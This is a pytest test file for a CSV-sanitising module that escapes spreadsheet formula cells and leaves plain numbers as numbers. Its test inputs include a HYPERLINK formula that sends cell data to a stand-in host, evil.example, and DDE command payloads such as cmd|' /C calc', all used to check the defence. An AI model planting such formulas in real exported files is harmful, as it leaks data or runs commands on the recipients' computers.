"""CSV cells a spreadsheet will not evaluate (outcomeportal.core.csvsafe): OWASP's rule, with
plain numbers — a negative amount above all — left as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from outcomeportal.core import csvsafe


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C notepad'!A0", "'+cmd|' /C notepad'!A0"),
        ("-1+1", "'-1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+", "'+"),
        ("-1e5", "'-1e5"),
        ("--12.50", "'--12.50"),
        # plainly numeric: stays a number
        ("-12.50", "-12.50"),
        ("+12.50", "+12.50"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        ("-12", "-12"),
        ("12.50", "12.50"),
        # ordinary text
        ("support.refund", "support.refund"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
        ("2026-06-01T09:00:00-04:00", "2026-06-01T09:00:00-04:00"),
    ],
)
def test_cell_safe(value, written):
    assert csvsafe.cell_safe(value) == written


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 0, 1.5, None])
def test_numbers_and_none_pass_as_they_are(value):
    assert csvsafe.cell_safe(value) is value


def test_other_objects_are_made_safe_as_their_text():
    class Hostile:
        def __str__(self):
            return "=1+1"

    assert csvsafe.cell_safe(Hostile()) == "'=1+1"


def test_writer_applies_the_rule_to_every_cell():
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow(['=HYPERLINK("x")', "@SUM(A1)", "+cmd", "-1+1", Decimal("-12.50"), "-12.50", "ok"])
    writer.writerows([["\tx", 7]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ['\'=HYPERLINK("x")', "'@SUM(A1)", "'+cmd", "'-1+1", "-12.50", "-12.50", "ok"],
        ["'\tx", "7"],
    ]


# --- stream_safe: CSV bytes as PostgreSQL's COPY writes them -------------------------------------

COPY_OUTPUT = (
    b"event_id,workflow,amount,note\n"
    b"evt-1,support.refund,0.99,\n"
    b'evt-2,"=HYPERLINK(""https://evil.example"",""x"")",0.99,""\n'
    b"@SUM(1),-1+1,-12.50,plain\n"
    b'evt-4,"multi\nline\n=not a cell start",-0.99,"a,=b"\n'
    b"evt-5,\t=1+1,,\n"
    b'evt-6,"\r=1+1",1,x\n'
    b"evt-7,x,-12.50,y\n"
)
SAFE_OUTPUT = (
    b"event_id,workflow,amount,note\n"
    b"evt-1,support.refund,0.99,\n"
    b'evt-2,"\'=HYPERLINK(""https://evil.example"",""x"")",0.99,\n'
    b"'@SUM(1),'-1+1,-12.50,plain\n"
    b'evt-4,"multi\nline\n=not a cell start",-0.99,"a,=b"\n'
    b"evt-5,'\t=1+1,,\n"
    b'evt-6,"\'\r=1+1",1,x\n'
    b"evt-7,x,-12.50,y\n"
)


def test_stream_safe_escapes_exactly_the_cells_a_spreadsheet_would_evaluate():
    assert b"".join(csvsafe.stream_safe([COPY_OUTPUT])) == SAFE_OUTPUT
    cells = list(csv.reader(io.StringIO(SAFE_OUTPUT.decode(), newline="")))
    assert [row[1] for row in cells[2:4]] == ['\'=HYPERLINK("https://evil.example","x")', "'-1+1"]
    assert all(not cell.startswith(csvsafe.TRIGGERS) or cell.startswith("-") for row in cells for cell in row)


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 16, 64])
def test_stream_safe_gives_the_same_bytes_wherever_the_chunks_split(size):
    chunks = [COPY_OUTPUT[i : i + size] for i in range(0, len(COPY_OUTPUT), size)]
    out = list(csvsafe.stream_safe(chunks))
    assert b"".join(out) == SAFE_OUTPUT
    # Each piece yielded is whole rows: a consumer may write them as they come.
    for piece in out[:-1]:
        assert piece.endswith(b"\n") and piece.count(b'"') % 2 == 0


def test_stream_safe_passes_rows_without_a_trigger_through_untouched():
    clean = b"a,b\n" + b'x,"y, with a comma",2026-06-01 09:00:00-04,-0.5\n' * 1000
    assert list(csvsafe.stream_safe([clean])) == [clean]


def test_stream_safe_keeps_a_last_row_without_a_line_break():
    assert b"".join(csvsafe.stream_safe([b"a\n", b"=1+1"])) == b"a\n'=1+1"
